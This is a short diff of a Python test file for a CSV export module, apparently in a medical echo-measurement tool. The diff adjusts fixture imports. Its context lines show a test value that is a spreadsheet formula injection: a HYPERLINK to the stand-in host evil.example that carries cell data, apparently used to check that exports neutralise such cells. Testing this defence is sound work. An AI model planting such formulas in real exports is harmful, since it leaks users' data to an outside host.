@@ -10,12 +10,10 @@ import io
 import json
 
 import pytest
-from store_fixtures import deidentified_clip, dicom_file, lvidd_proposals, store  # noqa: F401 - fixtures
+from store_fixtures import lvidd_proposals
 
 from echomeasure.export import CSV_COLUMNS, CSV_NUMERIC_COLUMNS, export_csv, neutralise_cell, render
 from echomeasure.propose.types import ModelInfo
-
-pytest_plugins = ["postgres_fixture"]
 
 HOSTILE_NAMES = {
     "ivsd": '=HYPERLINK("http://evil.example/?"&A1,"click")',
